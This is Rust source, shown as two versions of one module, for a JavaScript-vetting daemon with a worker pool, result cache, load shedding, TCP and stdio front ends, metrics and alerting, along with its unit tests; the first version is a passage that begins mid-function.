    match shared.queue.try_push(Job {
        id: id.clone(),
        key,
        source,
        resp: tx,
    }) {
        Ok(_) => {
            Stats::incr(&shared.stats.jobs_accepted);
            shared
                .metrics
                .record("serve_queue_depth", shared.queue.len() as u64);
            PendingVet::Waiting { id, name, rx, t0 }
        }
        Err(PushError::Full(_)) => {
            Stats::incr(&shared.stats.jobs_rejected);
            shared.log_event(
                Level::Warn,
                "job_rejected",
                &[
                    ("job", Json::from(id.as_str())),
                    ("reason", Json::from("overloaded")),
                ],
            );
            PendingVet::Ready(overloaded_response(
                name.as_deref(),
                shared.queue.len(),
                shared.queue.capacity(),
            ))
        }
        Err(PushError::ShutDown(_)) => {
            Stats::incr(&shared.stats.jobs_rejected);
            shared.log_event(
                Level::Warn,
                "job_rejected",
                &[
                    ("job", Json::from(id.as_str())),
                    ("reason", Json::from("shutting_down")),
                ],
            );
            PendingVet::Ready(error_response("daemon is shutting down"))
        }
    }
}

fn await_vet(shared: &Shared, pending: PendingVet) -> Json {
    match pending {
        PendingVet::Ready(resp) => resp,
        PendingVet::Waiting { id, name, rx, t0 } => match rx.recv() {
            Ok(core) => {
                let micros = t0.elapsed().as_micros();
                let resp = vet_response(&core, name.as_deref(), Some(&id), false, micros);
                shared.log_event(
                    Level::Info,
                    "job_done",
                    &[
                        ("job", Json::from(id.as_str())),
                        ("micros", Json::from(micros as f64)),
                        ("cached", Json::Bool(false)),
                    ],
                );
                resp
            }
            Err(_) => error_response("worker pool shut down before the job finished"),
        },
    }
}

fn with_kind(kind: &str, body: Json) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from(kind));
    if let Json::Obj(entries) = body {
        for (k, v) in entries {
            o.set(&k, v);
        }
    }
    o
}

/// Handles one parsed request. The bool says "this was a shutdown":
/// the caller writes the response first, then tears the daemon down.
fn respond(shared: &Shared, req: Result<Request, String>) -> (Json, bool) {
    match req {
        Err(msg) => {
            Stats::incr(&shared.stats.protocol_errors);
            shared.log_event(
                Level::Warn,
                "protocol_error",
                &[("error", Json::from(msg.as_str()))],
            );
            (error_response(&msg), false)
        }
        Ok(Request::Vet(item)) => (await_vet(shared, submit_vet(shared, item)), false),
        Ok(Request::VetBatch(items)) => {
            // Submit everything first so the batch saturates the worker
            // pool; items beyond the queue bound come back `overloaded`.
            let pending: Vec<PendingVet> =
                items.into_iter().map(|i| submit_vet(shared, i)).collect();
            let results: Vec<Json> = pending
                .into_iter()
                .map(|p| await_vet(shared, p))
                .collect();
            let mut o = Json::obj();
            o.set("kind", Json::from("vet_batch_result"));
            o.set("results", Json::Arr(results));
            (o, false)
        }
        Ok(Request::Stats) => (with_kind("stats", shared.stats_body()), false),
        Ok(Request::Metrics) => {
            let text = sigobs::prometheus_text(&shared.merged_snapshot());
            // Our own renderer must always validate; the sample count is
            // a convenience for scripted smoke tests.
            let samples = sigobs::validate_prometheus_text(&text).unwrap_or(0);
            (metrics_response(&text, samples), false)
        }
        Ok(Request::Shutdown) => {
            shared.log_event(Level::Info, "serve_shutdown", &[]);
            let mut o = Json::obj();
            o.set("kind", Json::from("shutdown_ack"));
            o.set("stats", shared.stats_body());
            (o, true)
        }
    }
}

/// Flips the daemon into shutdown: no new jobs, workers drain and exit,
/// and the TCP acceptor (if any) is poked awake so it can stop.
fn initiate_shutdown(shared: &Shared) {
    if shared.shutting_down.swap(true, Ordering::SeqCst) {
        return; // someone else already did
    }
    shared.queue.shutdown();
    if let Some(addr) = shared.addr {
        // Unblock the acceptor's blocking accept() with a throwaway
        // connection; it re-checks the flag after every accept.
        let _ = TcpStream::connect(addr);
    }
}

/// The protocol loop: read request lines, write response lines. Returns
/// `true` if the peer requested shutdown (vs. just disconnecting).
fn serve_lines(
    shared: &Shared,
    reader: impl BufRead,
    mut writer: impl Write,
) -> io::Result<bool> {
    for line in reader.lines() {
        let line = line?;
        if line.trim().is_empty() {
            continue;
        }
        let (resp, is_shutdown) = respond(shared, parse_request(&line));
        // Single write per response line (see Client::raw_line: split
        // writes interact badly with Nagle + delayed ACK).
        let mut framed = resp.to_string_compact();
        framed.push('\n');
        writer.write_all(framed.as_bytes())?;
        writer.flush()?;
        if is_shutdown {
            initiate_shutdown(shared);
            return Ok(true);
        }
    }
    Ok(false)
}

fn spawn_workers(shared: &Arc<Shared>) -> Vec<JoinHandle<()>> {
    (0..shared.workers)
        .map(|i| {
            let shared = Arc::clone(shared);
            std::thread::Builder::new()
                .name(format!("sigserve-worker-{i}"))
                .spawn(move || worker_loop(&shared))
                .expect("spawn worker thread")
        })
        .collect()
}

/// The `serve_started` log record both front ends emit once the pool is
/// up, so a log file identifies the daemon configuration it narrates.
fn log_started(shared: &Shared) {
    shared.log_event(
        Level::Info,
        "serve_started",
        &[
            ("workers", Json::from(shared.workers as f64)),
            ("queue_cap", Json::from(shared.queue.capacity() as f64)),
            (
                "cache_cap",
                Json::from(shared.lock_cache().counters().capacity as f64),
            ),
        ],
    );
}

/// The in-daemon alerting state: which rule names are currently firing.
/// After each snapshot lands in the history ring, the history thread
/// re-evaluates the configured rules over the on-disk window and emits
/// one `alert_fired` (warn) per newly violated rule and one
/// `alert_cleared` (info) per rule that stopped violating -- edges, not
/// levels, so a long-running breach is one log record, not one per
/// snapshot.
fn evaluate_alerts(
    shared: &Shared,
    dir: &std::path::Path,
    rules: &sigobs::alerts::AlertRules,
    firing: &mut std::collections::BTreeSet<String>,
) {
    let records = match sigobs::MetricsHistory::load(dir) {
        Ok(r) => r,
        Err(e) => {
            shared.log_event(
                Level::Warn,
                "metrics_history_error",
                &[("error", Json::from(format!("{e}")))],
            );
            return;
        }
    };
    let report = sigobs::alerts::evaluate(rules, &records);
    for outcome in &report.outcomes {
        let name = outcome.rule.name.as_str();
        if outcome.violated && !firing.contains(name) {
            firing.insert(name.to_owned());
            let value = outcome.value.map_or(Json::Null, Json::from);
            let bound = match (outcome.rule.min, outcome.rule.max) {
                (Some(lo), _) if outcome.value.is_some_and(|v| v < lo) => Json::from(lo),
                (_, Some(hi)) => Json::from(hi),
                (Some(lo), None) => Json::from(lo),
                (None, None) => Json::Null,
            };
            shared.log_event(
                Level::Warn,
                "alert_fired",
                &[("rule", Json::from(name)), ("value", value), ("bound", bound)],
            );
        } else if !outcome.violated && firing.remove(name) {
            shared.log_event(Level::Info, "alert_cleared", &[("rule", Json::from(name))]);
        }
    }
}

/// Spawns the metrics-history thread when `--metrics-dir` is configured:
/// it appends a merged snapshot to the on-disk ring every
/// `metrics_interval`, plus one final snapshot at shutdown, and polls
/// the shutdown flag often enough that daemon teardown is prompt. With
/// alert rules configured, each appended snapshot is followed by an
/// alerting pass over the recorded window.
fn spawn_history(shared: &Arc<Shared>) -> Option<JoinHandle<()>> {
    let dir = shared.metrics_dir.clone()?;
    let shared = Arc::clone(shared);
    let handle = std::thread::Builder::new()
        .name("sigserve-history".to_owned())
        .spawn(move || {
            let mut history = match sigobs::MetricsHistory::open(&dir, shared.metrics_history_cap)
            {
                Ok(h) => h,
                Err(e) => {
                    shared.log_event(
                        Level::Error,
                        "metrics_history_error",
                        &[("error", Json::from(format!("{e}")))],
                    );
                    return;
                }
            };
            let mut firing = std::collections::BTreeSet::new();
            let poll = Duration::from_millis(25);
            loop {
                let interval_start = Instant::now();
                while interval_start.elapsed() < shared.metrics_interval {
                    if shared.shutting_down.load(Ordering::SeqCst) {
                        let _ = history.append(&shared.merged_snapshot());
                        if let Some(rules) = &shared.alert_rules {
                            evaluate_alerts(&shared, &dir, rules, &mut firing);
                        }
                        return;
                    }
                    std::thread::sleep(poll.min(shared.metrics_interval));
                }
                if let Err(e) = history.append(&shared.merged_snapshot()) {
                    shared.log_event(
                        Level::Warn,
                        "metrics_history_error",
                        &[("error", Json::from(format!("{e}")))],
                    );
                } else if let Some(rules) = &shared.alert_rules {
                    evaluate_alerts(&shared, &dir, rules, &mut firing);
                }
            }
        })
        .expect("spawn history thread");
    Some(handle)
}

/// A running TCP daemon. Dropping the handle does *not* stop it; send a
/// `shutdown` request (or call [`Server::stop`]) and then [`Server::join`].
pub struct Server {
    shared: Arc<Shared>,
    addr: SocketAddr,
    acceptor: JoinHandle<()>,
    workers: Vec<JoinHandle<()>>,
    history: Option<JoinHandle<()>>,
}

impl Server {
    /// Binds `addr` (e.g. `127.0.0.1:0` for an ephemeral port), spawns
    /// the worker pool and the acceptor, and returns immediately.
    ///
    /// The engine here is the classic 3-argument form; phase spans never
    /// reach the event log. Use [`Server::bind_traced`] when the engine
    /// can attach a [`sigtrace::Trace`] to the pipeline.
    pub fn bind<F>(addr: &str, cfg: ServeConfig, analyze: F) -> io::Result<Server>
    where
        F: Fn(&str, &AnalysisConfig, &MetricsRegistry) -> VetOutcome + Send + Sync + 'static,
    {
        Server::bind_traced(addr, cfg, move |s, c, m, _trace| analyze(s, c, m))
    }

    /// Like [`Server::bind`], but the engine also receives a
    /// [`sigtrace::Trace`] carrying the owning job's request ID into the
    /// pipeline (a [`LogTracer`] when the event log is at debug level,
    /// [`Trace::Off`] otherwise).
    pub fn bind_traced<F>(addr: &str, cfg: ServeConfig, analyze: F) -> io::Result<Server>
    where
        F: for<'a> Fn(&str, &AnalysisConfig, &MetricsRegistry, Trace<'a>) -> VetOutcome
            + Send
            + Sync
            + 'static,
    {
        let listener = TcpListener::bind(addr)?;
        let local = listener.local_addr()?;
        let shared = Arc::new(Shared::new(cfg, Box::new(analyze), Some(local)));
        log_started(&shared);
        let workers = spawn_workers(&shared);
        let history = spawn_history(&shared);
        let acceptor = {
            let shared = Arc::clone(&shared);
            std::thread::Builder::new()
                .name("sigserve-acceptor".to_owned())
                .spawn(move || loop {
                    match listener.accept() {
                        Ok((stream, _)) => {
                            if shared.shutting_down.load(Ordering::SeqCst) {
                                break;
                            }
                            let shared = Arc::clone(&shared);
                            // Handlers are detached: they die with their
                            // connection, and join() only waits for the
                            // acceptor + workers.
                            std::thread::spawn(move || handle_conn(&shared, stream));
                        }
                        Err(_) => {
                            if shared.shutting_down.load(Ordering::SeqCst) {
                                break;
                            }
                        }
                    }
                })
                .expect("spawn acceptor thread")
        };
        Ok(Server {
            shared,
            addr: local,
            acceptor,
            workers,
            history,
        })
    }

    /// The bound address (resolves `:0` to the real ephemeral port).
    pub fn local_addr(&self) -> SocketAddr {
        self.addr
    }

    /// A `stats`-shaped snapshot for in-process harnesses (the bench
    /// tool), without a round-trip through the protocol.
    pub fn stats(&self) -> Json {
        with_kind("stats", self.shared.stats_body())
    }

    /// Initiates shutdown from the owning process (equivalent to a
    /// `shutdown` protocol request, minus the ack).
    pub fn stop(&self) {
        initiate_shutdown(&self.shared);
    }

    /// Waits for the acceptor and workers to finish. Call after a
    /// `shutdown` request or [`Server::stop`]; joining a running server
    /// blocks until one of those happens.
    pub fn join(self) {
        let _ = self.acceptor.join();
        for w in self.workers {
            let _ = w.join();
        }
        if let Some(h) = self.history {
            let _ = h.join();
        }
        if let Some(log) = &self.shared.log {
            log.flush();
        }
        self.shared.maybe_dump_metrics();
    }

    /// A snapshot of the daemon's metrics registry for in-process
    /// harnesses (the bench tool), without a protocol round-trip.
    pub fn metrics_snapshot(&self) -> crate::MetricsSnapshot {
        self.shared.metrics.snapshot()
    }
}

fn handle_conn(shared: &Shared, stream: TcpStream) {
    let _ = stream.set_nodelay(true);
    let Ok(reader) = stream.try_clone() else {
        return;
    };
    // Any I/O error (peer vanished mid-request) just ends the connection.
    let _ = serve_lines(shared, BufReader::new(reader), stream);
}

/// Runs the daemon over stdin/stdout: the protocol loop on the calling
/// thread, analyses on the worker pool. Returns after a `shutdown`
/// request or stdin EOF, with all accepted jobs completed.
///
/// The engine here is the classic 3-argument form; use
/// [`serve_stdio_traced`] when the engine can attach a
/// [`sigtrace::Trace`] to the pipeline.
pub fn serve_stdio<F>(cfg: ServeConfig, analyze: F) -> io::Result<()>
where
    F: Fn(&str, &AnalysisConfig, &MetricsRegistry) -> VetOutcome + Send + Sync + 'static,
{
    serve_stdio_traced(cfg, move |s, c, m, _trace| analyze(s, c, m))
}

/// Like [`serve_stdio`], but the engine also receives a
/// [`sigtrace::Trace`] carrying the owning job's request ID into the
/// pipeline (a [`LogTracer`] when the event log is at debug level,
/// [`Trace::Off`] otherwise).
pub fn serve_stdio_traced<F>(cfg: ServeConfig, analyze: F) -> io::Result<()>
where
    F: for<'a> Fn(&str, &AnalysisConfig, &MetricsRegistry, Trace<'a>) -> VetOutcome
        + Send
        + Sync
        + 'static,
{
    let shared = Arc::new(Shared::new(cfg, Box::new(analyze), None));
    log_started(&shared);
    let workers = spawn_workers(&shared);
    let history = spawn_history(&shared);
    let result = serve_lines(&shared, io::stdin().lock(), io::stdout().lock());
    initiate_shutdown(&shared);
    for w in workers {
        let _ = w.join();
    }
    if let Some(h) = history {
        let _ = h.join();
    }
    if let Some(log) = &shared.log {
        log.flush();
    }
    shared.maybe_dump_metrics();
    result.map(|_| ())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    /// A fast stub engine: "ok" for anything, "timeout" for sources
    /// containing the marker, error for sources containing "!".
    fn stub(source: &str, _config: &AnalysisConfig, metrics: &MetricsRegistry) -> VetOutcome {
        metrics.add("stub_calls", 1);
        if source.contains("@timeout") {
            VetOutcome::timeout(999, Duration::from_micros(77))
        } else if source.contains('!') {
            VetOutcome::error("stub parse error")
        } else {
            VetOutcome::report(
                format!("{{\n  \"len\": {}\n}}", source.len()),
                crate::PhaseTimings::new(
                    Duration::from_micros(30),
                    Duration::from_micros(20),
                    Duration::from_micros(10),
                ),
            )
        }
    }

    fn shared_with(cfg: ServeConfig) -> Shared {
        Shared::new(
            cfg,
            Box::new(
                |s: &str, c: &AnalysisConfig, m: &MetricsRegistry, _t: Trace<'_>| stub(s, c, m),
            ),
            None,
        )
    }

    #[test]
    fn respond_vet_computes_then_caches() {
        let shared = shared_with(ServeConfig::default());
        let workers = {
            // No worker pool in this unit test: drive the queue inline.
            let item = VetItem {
                name: Some("a".to_owned()),
                source: Source::Inline("var x = 1;".to_owned()),
            };
            let pending = submit_vet(&shared, item);
            let job = shared.queue.pop().expect("job queued");
            let core = compute(&shared, job.key, &job.source, &job.id);
            job.resp.send(core).unwrap();
            let resp = await_vet(&shared, pending);
            assert_eq!(resp["verdict"], "ok");
            assert_eq!(resp["cached"], Json::Bool(false));
            assert_eq!(resp["signature"]["len"].as_f64(), Some(10.0));
            resp
        };
        let _ = workers;
        // Second submission of identical content: answered from cache
        // without touching the queue.
        let item = VetItem {
            name: None,
            source: Source::Inline("var x = 1;".to_owned()),
        };
        match submit_vet(&shared, item) {
            PendingVet::Ready(resp) => {
                assert_eq!(resp["cached"], Json::Bool(true));
                assert_eq!(resp["verdict"], "ok");
            }
            PendingVet::Waiting { .. } => panic!("expected a cache hit"),
        }
        assert!(shared.queue.is_empty());
    }

    #[test]
    fn overload_sheds_with_typed_response() {
        let cfg = ServeConfig {
            queue_cap: 1,
            ..ServeConfig::default()
        };
        let shared = shared_with(cfg);
        let first = submit_vet(
            &shared,
            VetItem {
                name: None,
                source: Source::Inline("one".to_owned()),
            },
        );
        assert!(matches!(first, PendingVet::Waiting { .. }));
        let second = submit_vet(
            &shared,
            VetItem {
                name: Some("b".to_owned()),
                source: Source::Inline("two".to_owned()),
            },
        );
        match second {
            PendingVet::Ready(resp) => {
                assert_eq!(resp["kind"], "overloaded");
                assert_eq!(resp["capacity"].as_f64(), Some(1.0));
            }
            PendingVet::Waiting { .. } => panic!("expected overload"),
        }
        assert_eq!(
            shared.stats.jobs_rejected.load(Ordering::Relaxed),
            1,
            "rejection must be counted"
        );
    }

    #[test]
    fn timeout_and_error_cores() {
        let shared = shared_with(ServeConfig::default());
        let t = compute(&shared, 1, "@timeout", "j-t");
        assert_eq!(t["verdict"], "timeout");
        assert_eq!(t["steps"].as_f64(), Some(999.0));
        let e = compute(&shared, 2, "oops!", "j-e");
        assert_eq!(e["verdict"], "error");
        assert_eq!(shared.stats.budget_aborts.load(Ordering::Relaxed), 1);
        assert_eq!(shared.stats.analysis_errors.load(Ordering::Relaxed), 1);
        // Deadline-ish timeouts (no step budget configured) are not
        // cached; errors are.
        assert!(shared.lock_cache().peek(1).is_none());
        assert!(shared.lock_cache().peek(2).is_some());
    }

    #[test]
    fn step_budget_timeouts_are_cached() {
        let mut cfg = ServeConfig::default();
        cfg.analysis.step_budget = Some(10);
        let shared = Shared::new(
            cfg,
            Box::new(
                |_: &str, _: &AnalysisConfig, _: &MetricsRegistry, _: Trace<'_>| {
                    VetOutcome::timeout(11, Duration::from_micros(5))
                },
            ),
            None,
        );
        let t = compute(&shared, 9, "whatever", "j-b");
        assert_eq!(t["verdict"], "timeout");
        assert!(shared.lock_cache().peek(9).is_some());
    }

    #[test]
    fn end_to_end_over_tcp_with_stub_engine() {
        let server =
            Server::bind("127.0.0.1:0", ServeConfig::default(), stub).expect("bind");
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let r1 = client.vet_source(Some("a"), "var a;").unwrap();
        assert_eq!(r1["verdict"], "ok");
        assert_eq!(r1["cached"], Json::Bool(false));
        let r2 = client.vet_source(Some("a"), "var a;").unwrap();
        assert_eq!(r2["cached"], Json::Bool(true));
        let stats = client.stats().unwrap();
        assert_eq!(stats["cache"]["hits"].as_f64(), Some(1.0));
        assert_eq!(stats["jobs"]["completed"].as_f64(), Some(1.0));
        // The metrics registry rides along in every stats response: the
        // daemon's own counters plus whatever the engine recorded.
        let metrics = &stats["metrics"];
        assert_eq!(metrics["counters"]["serve_cache_hits"].as_f64(), Some(1.0));
        assert_eq!(metrics["counters"]["serve_cache_misses"].as_f64(), Some(1.0));
        assert_eq!(metrics["counters"]["stub_calls"].as_f64(), Some(1.0));
        assert_eq!(
            metrics["histograms"]["serve_vet_us"]["count"].as_f64(),
            Some(1.0)
        );
        let ack = client.shutdown().unwrap();
        assert_eq!(ack["kind"], "shutdown_ack");
        assert_eq!(ack["stats"]["jobs"]["accepted"].as_f64(), Some(1.0));
        server.join();
    }

    #[test]
    fn batch_pipelines_and_preserves_order() {
        let server =
            Server::bind("127.0.0.1:0", ServeConfig::default(), stub).expect("bind");
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let mut req = Json::obj();
        req.set("kind", Json::from("vet_batch"));
        req.set(
            "items",
            Json::Arr(
                (0..6)
                    .map(|i| {
                        let mut o = Json::obj();
                        o.set("name", Json::from(format!("n{i}")));
                        o.set("source", Json::from(format!("var v{i};")));
                        o
                    })
                    .collect(),
            ),
        );
        let resp = client.request(&req).unwrap();
        assert_eq!(resp["kind"], "vet_batch_result");
        let results = resp["results"].as_array().unwrap();
        assert_eq!(results.len(), 6);
        for (i, r) in results.iter().enumerate() {
            assert_eq!(r["name"].as_str(), Some(format!("n{i}").as_str()));
            assert_eq!(r["verdict"], "ok");
        }
        client.shutdown().unwrap();
        server.join();
    }

    #[test]
    fn panicking_worker_does_not_kill_the_daemon() {
        // Regression: a panicking AnalyzeJobFn used to poison the cache
        // mutex (compute holds it around insert) and crash the worker;
        // every later request then panicked on the poisoned lock —
        // one bad addon took the whole daemon down.
        fn panicky(source: &str, c: &AnalysisConfig, m: &MetricsRegistry) -> VetOutcome {
            if source.contains("@panic") {
                panic!("injected analysis panic");
            }
            stub(source, c, m)
        }
        let cfg = ServeConfig {
            workers: 1, // one worker: if the panic killed it, nothing answers
            ..ServeConfig::default()
        };
        let server = Server::bind("127.0.0.1:0", cfg, panicky).expect("bind");
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let boom = client.vet_source(Some("bad"), "@panic").unwrap();
        assert_eq!(boom["verdict"], "error");
        assert!(
            boom["message"].as_str().unwrap_or("").contains("panicked"),
            "{boom:?}"
        );
        // The same (sole) worker must still answer the next request.
        let ok = client.vet_source(Some("good"), "var fine;").unwrap();
        assert_eq!(ok["verdict"], "ok");
        let snap = server.metrics_snapshot();
        let panics = snap
            .counters
            .iter()
            .find(|(n, _)| n == "serve_worker_panics")
            .map(|(_, v)| *v);
        assert_eq!(panics, Some(1));
        client.shutdown().unwrap();
        server.join();
    }

    #[test]
    fn malformed_lines_get_error_responses_and_daemon_survives() {
        let server =
            Server::bind("127.0.0.1:0", ServeConfig::default(), stub).expect("bind");
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let resp = client.raw_line("this is not json").unwrap();
        assert_eq!(resp["kind"], "error");
        let resp = client.raw_line(r#"{"kind":"frobnicate"}"#).unwrap();
        assert_eq!(resp["kind"], "error");
        let ok = client.vet_source(None, "still alive").unwrap();
        assert_eq!(ok["verdict"], "ok");
        let stats = client.stats().unwrap();
        assert_eq!(stats["jobs"]["protocol_errors"].as_f64(), Some(2.0));
        client.shutdown().unwrap();
        server.join();
    }
}
