//! The daemon itself: shared state, the worker pool, the per-connection
//! protocol loop, and the TCP / stdio front ends.
//!
//! Data flow for one `vet` request:
//!
//! ```text
//! connection handler ──cache get──> hit ──> respond (cached:true, µs)
//!        │ miss
//!        ├─ queue full ──> respond overloaded (typed backpressure)
//!        └─ try_push(Job{key, source, resp}) ──> worker pool
//!                                                  │ peek cache (dedupe)
//!                                                  │ analyze under budget
//!                                                  │ insert cache
//!        respond (cached:false) <──mpsc── core result
//! ```
//!
//! Workers never die on behalf of a job: a runaway analysis is cut off by
//! the step budget / deadline inside `jsanalysis` and comes back as a
//! `timeout` core result like any other.

use crate::cache::{cache_key, SigCache};
use crate::protocol::{
    error_response, overloaded_response, parse_request, vet_response, Request, Source, VetItem,
};
use crate::queue::{Bounded, PushError};
use crate::stats::{metrics_json, Stats};
use crate::{AnalyzeFn, MetricsRegistry, VetOutcome};
use jsanalysis::AnalysisConfig;
use minijson::Json;
use std::io::{self, BufRead, BufReader, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{mpsc, Arc, Mutex};
use std::thread::JoinHandle;
use std::time::Instant;

/// Daemon configuration (the `vet serve` flags).
#[derive(Debug, Clone)]
pub struct ServeConfig {
    /// Worker threads running analyses (default 4).
    pub workers: usize,
    /// Result-cache capacity in entries (default 1024; 0 disables).
    pub cache_cap: usize,
    /// Job-queue bound; pushes beyond it are shed with `overloaded`
    /// (default `workers * 8`).
    pub queue_cap: usize,
    /// The analysis configuration every job runs under, including the
    /// `step_budget` / `deadline` robustness knobs.
    pub analysis: AnalysisConfig,
    /// Dump the metrics-registry snapshot to stderr when the daemon
    /// shuts down (default `false`; `vet serve` turns it on). Off by
    /// default so embedded servers — tests, benches — stay quiet.
    pub dump_metrics_on_shutdown: bool,
}

impl Default for ServeConfig {
    fn default() -> ServeConfig {
        let workers = 4;
        ServeConfig {
            workers,
            cache_cap: 1024,
            queue_cap: workers * 8,
            analysis: AnalysisConfig::default(),
            dump_metrics_on_shutdown: false,
        }
    }
}

/// One queued vetting job.
struct Job {
    key: u64,
    source: String,
    resp: mpsc::Sender<Json>,
}

/// State shared by the acceptor, connection handlers, and workers.
struct Shared {
    analysis: AnalysisConfig,
    /// `analysis.canonical_string()`, computed once: the config half of
    /// every cache key.
    config_canon: String,
    workers: usize,
    queue: Bounded<Job>,
    cache: Mutex<SigCache>,
    stats: Stats,
    metrics: MetricsRegistry,
    analyze: Box<AnalyzeFn>,
    shutting_down: AtomicBool,
    dump_metrics_on_shutdown: bool,
    /// Bound address in TCP mode; used to poke the blocked acceptor on
    /// shutdown. `None` in stdio mode.
    addr: Option<SocketAddr>,
}

impl Shared {
    fn new(cfg: ServeConfig, analyze: Box<AnalyzeFn>, addr: Option<SocketAddr>) -> Shared {
        Shared {
            config_canon: cfg.analysis.canonical_string(),
            workers: cfg.workers.max(1),
            queue: Bounded::new(cfg.queue_cap.max(1)),
            cache: Mutex::new(SigCache::new(cfg.cache_cap)),
            stats: Stats::default(),
            metrics: MetricsRegistry::new(),
            analysis: cfg.analysis,
            analyze,
            shutting_down: AtomicBool::new(false),
            dump_metrics_on_shutdown: cfg.dump_metrics_on_shutdown,
            addr,
        }
    }

    fn lock_cache(&self) -> std::sync::MutexGuard<'_, SigCache> {
        self.cache.lock().expect("cache lock poisoned")
    }

    fn stats_body(&self) -> Json {
        let mut body = self.stats.snapshot(
            self.lock_cache().counters(),
            self.workers,
            self.queue.len(),
            self.queue.capacity(),
        );
        body.set("metrics", metrics_json(&self.metrics.snapshot()));
        body
    }

    /// The shutdown dump: one compact JSON line on stderr so a service
    /// operator gets the full registry even without a final `stats`
    /// round-trip. Gated by `ServeConfig::dump_metrics_on_shutdown`.
    fn maybe_dump_metrics(&self) {
        if self.dump_metrics_on_shutdown {
            let snap = metrics_json(&self.metrics.snapshot());
            eprintln!("sigserve metrics: {}", snap.to_string_compact());
        }
    }
}

/// Runs one job's analysis, updates the counters, and caches the core
/// result. Deadline-based timeouts are *not* cached: they depend on
/// machine load, so a later resubmission deserves a fresh attempt, while
/// step-budget timeouts are deterministic and cache fine.
fn compute(shared: &Shared, key: u64, source: &str) -> Json {
    let t0 = Instant::now();
    let outcome = (shared.analyze)(source, &shared.analysis, &shared.metrics);
    let vet = t0.elapsed();
    shared.stats.record_vet(vet);
    shared
        .metrics
        .record("serve_vet_us", vet.as_micros().min(u128::from(u64::MAX)) as u64);
    match &outcome {
        VetOutcome::Report { timings, .. } => {
            shared.stats.record_phases(timings.p1, timings.p2, timings.p3);
        }
        VetOutcome::Timeout { .. } => {
            Stats::incr(&shared.stats.budget_aborts);
            shared.metrics.add("serve_budget_aborts", 1);
        }
        VetOutcome::Error { .. } => {
            Stats::incr(&shared.stats.analysis_errors);
            shared.metrics.add("serve_analysis_errors", 1);
        }
    }
    let core = outcome.core_json();
    if outcome.cacheable(&shared.analysis) {
        shared.lock_cache().insert(key, core.clone());
    }
    core
}

fn worker_loop(shared: &Shared) {
    while let Some(job) = shared.queue.pop() {
        // Dedupe racing submissions of the same content: another worker
        // may have finished this key while the job sat in the queue.
        // (Bound before the match: a guard temporary in the scrutinee
        // would still be held when compute() re-locks the cache.)
        let cached = shared.lock_cache().peek(job.key);
        let core = match cached {
            Some(hit) => hit,
            None => compute(shared, job.key, &job.source),
        };
        Stats::incr(&shared.stats.jobs_completed);
        // A disconnected submitter is fine; the result is cached anyway.
        let _ = job.resp.send(core);
    }
}

/// A submitted-but-not-yet-answered vet item, so batches can pipeline
/// all submissions across the worker pool before collecting any result.
enum PendingVet {
    /// Answered without a worker (cache hit, overload, bad path, ...).
    Ready(Json),
    /// In the worker pool; await the core result on the channel.
    Waiting {
        name: Option<String>,
        rx: mpsc::Receiver<Json>,
        t0: Instant,
    },
}

fn submit_vet(shared: &Shared, item: VetItem) -> PendingVet {
    let t0 = Instant::now();
    let (name, source) = match item.source {
        Source::Inline(s) => (item.name, s),
        Source::Path(p) => match std::fs::read_to_string(&p) {
            // A path submission defaults its display name to the path.
            Ok(s) => (item.name.or(Some(p)), s),
            Err(e) => {
                let mut core = Json::obj();
                core.set("verdict", Json::from("error"));
                core.set("message", Json::from(format!("{p}: {e}")));
                return PendingVet::Ready(vet_response(
                    &core,
                    item.name.as_deref().or(Some(&p)),
                    false,
                    t0.elapsed().as_micros(),
                ));
            }
        },
    };
    let key = cache_key(&source, &shared.config_canon);
    if let Some(core) = shared.lock_cache().get(key) {
        shared.metrics.add("serve_cache_hits", 1);
        return PendingVet::Ready(vet_response(
            &core,
            name.as_deref(),
            true,
            t0.elapsed().as_micros(),
        ));
    }
    shared.metrics.add("serve_cache_misses", 1);
    let (tx, rx) = mpsc::channel();
    match shared.queue.try_push(Job {
        key,
        source,
        resp: tx,
    }) {
        Ok(_) => {
            Stats::incr(&shared.stats.jobs_accepted);
            shared
                .metrics
                .record("serve_queue_depth", shared.queue.len() as u64);
            PendingVet::Waiting { name, rx, t0 }
        }
        Err(PushError::Full(_)) => {
            Stats::incr(&shared.stats.jobs_rejected);
            PendingVet::Ready(overloaded_response(
                name.as_deref(),
                shared.queue.len(),
                shared.queue.capacity(),
            ))
        }
        Err(PushError::ShutDown(_)) => {
            Stats::incr(&shared.stats.jobs_rejected);
            PendingVet::Ready(error_response("daemon is shutting down"))
        }
    }
}

fn await_vet(pending: PendingVet) -> Json {
    match pending {
        PendingVet::Ready(resp) => resp,
        PendingVet::Waiting { name, rx, t0 } => match rx.recv() {
            Ok(core) => vet_response(&core, name.as_deref(), false, t0.elapsed().as_micros()),
            Err(_) => error_response("worker pool shut down before the job finished"),
        },
    }
}

fn with_kind(kind: &str, body: Json) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from(kind));
    if let Json::Obj(entries) = body {
        for (k, v) in entries {
            o.set(&k, v);
        }
    }
    o
}

/// Handles one parsed request. The bool says "this was a shutdown":
/// the caller writes the response first, then tears the daemon down.
fn respond(shared: &Shared, req: Result<Request, String>) -> (Json, bool) {
    match req {
        Err(msg) => {
            Stats::incr(&shared.stats.protocol_errors);
            (error_response(&msg), false)
        }
        Ok(Request::Vet(item)) => (await_vet(submit_vet(shared, item)), false),
        Ok(Request::VetBatch(items)) => {
            // Submit everything first so the batch saturates the worker
            // pool; items beyond the queue bound come back `overloaded`.
            let pending: Vec<PendingVet> =
                items.into_iter().map(|i| submit_vet(shared, i)).collect();
            let results: Vec<Json> = pending.into_iter().map(await_vet).collect();
            let mut o = Json::obj();
            o.set("kind", Json::from("vet_batch_result"));
            o.set("results", Json::Arr(results));
            (o, false)
        }
        Ok(Request::Stats) => (with_kind("stats", shared.stats_body()), false),
        Ok(Request::Shutdown) => {
            let mut o = Json::obj();
            o.set("kind", Json::from("shutdown_ack"));
            o.set("stats", shared.stats_body());
            (o, true)
        }
    }
}

/// Flips the daemon into shutdown: no new jobs, workers drain and exit,
/// and the TCP acceptor (if any) is poked awake so it can stop.
fn initiate_shutdown(shared: &Shared) {
